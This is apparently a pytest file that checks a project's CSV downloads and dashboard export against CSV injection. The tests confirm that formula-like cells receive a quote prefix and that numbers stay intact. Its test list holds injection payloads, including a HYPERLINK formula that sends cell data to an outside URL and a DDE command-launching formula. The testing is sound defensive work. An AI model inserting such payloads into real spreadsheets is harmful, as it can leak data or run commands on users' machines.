"""The published downloads are spreadsheet-safe (OWASP's CSV-injection rule), numbers stay numbers,
the verdict table the pages read back keeps its values, and the dashboard's "download this view"
applies the same rule as the published files."""

import csv
import io
import json
import shutil
import subprocess

import pytest

from acureview import verify, whatif
from acureview.paths import ROOT
from acureview.site import downloads

FORMULAS = [
    '=HYPERLINK("https://example.org/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "-0.5)",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]
NUMBERS = ["-0.5", "+3", "-12", "-1e-3", "0.25", "-.5"]
TEXT = ["plain words", "", "a = b", "50% (-3 to 4)", "'already quoted"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_could_start_a_formula_gets_a_single_quote(cell):
    assert downloads.spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + TEXT)
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert downloads.spreadsheet_safe(cell) == cell


def test_a_csv_without_a_dangerous_cell_is_published_byte_for_byte():
    text = (ROOT / "data" / "facts.csv").read_text(encoding="utf-8")
    assert downloads.spreadsheet_safe_csv(text) == text
    quoted = 'a,b\n"x, ""y""",-0.5\n'
    assert downloads.spreadsheet_safe_csv(quoted) == quoted


def cells(path):
    return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for c in row]


def test_the_published_table_and_data_are_neutralised_but_the_build_keeps_the_values(tmp_path, data, data_copy):
    """A claim's quote and a fact's note written as formulas: the downloads show them as text, the
    numbers stay numbers, and the table that verify.read reads back keeps them as computed."""
    rows = verify.compute(data)
    rows[0] = {**rows[0], "quote": FORMULAS[0], "reported": "-0.5", "reason": FORMULAS[1]}
    readings = whatif.rows(data)
    readings[0] = {**readings[0], "reason": FORMULAS[2]}
    build = tmp_path / "build"
    verify.write(rows, build, "hash", readings)
    facts = data_copy / "facts.csv"
    original = facts.read_text(encoding="utf-8")
    facts.write_text(original + f'"{FORMULAS[3]}"\n', encoding="utf-8")
    executed = tmp_path / "executed"
    executed.mkdir()
    (executed / "chapter.ipynb").write_text("{}", encoding="utf-8")

    out = tmp_path / "downloads"
    downloads.publish(verify.stored(build, "hash"), out, executed, data=data_copy, readings=readings)

    published = cells(out / "verdicts.csv")
    assert "'" + FORMULAS[0] in published and "'" + FORMULAS[1] in published
    assert "-0.5" in published and "'-0.5" not in published
    assert "'" + FORMULAS[3] in cells(out / "facts.csv")
    assert "'" + FORMULAS[2] in cells(out / "whatif.csv")
    assert not [c for p in out.glob("*.csv") for c in cells(p) if downloads.spreadsheet_safe(c) != c]
    # what the site computed from: the values as they are
    assert verify.stored(build, "hash")[0]["quote"] == FORMULAS[0]
    assert FORMULAS[0] in cells(build / "verdicts.csv")
    assert json.loads((out / "verdicts.json").read_text(encoding="utf-8"))[0]["quote"] == FORMULAS[0]
    assert (out / "claims.csv").read_bytes() == (data_copy / "claims.csv").read_bytes()
    assert (out / "review.md").read_bytes() == (data_copy / "review.md").read_bytes()
    assert (out / "notebooks" / "chapter.ipynb").exists()


NODE = shutil.which("node")


@pytest.mark.skipif(NODE is None, reason="Node.js runs the dashboard's script outside a browser")
def test_the_dashboards_export_applies_the_same_rule():
    script = (
        "const d = require(process.argv[1]);"
        "const cells = JSON.parse(process.argv[2]);"
        "console.log(JSON.stringify({safe: cells.map(d.spreadsheetSafe), row: d.csvRow(cells)}));"
    )
    every = FORMULAS + NUMBERS + TEXT + ['say "yes"']
    done = subprocess.run(
        [NODE, "-e", script, str(ROOT / "book" / "_static" / "dashboard.js"), json.dumps(every)],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    shown = json.loads(done.stdout)
    assert shown["safe"] == [downloads.spreadsheet_safe(c) for c in every]
    assert next(csv.reader(io.StringIO(shown["row"], newline=""))) == [downloads.spreadsheet_safe(c) for c in every]
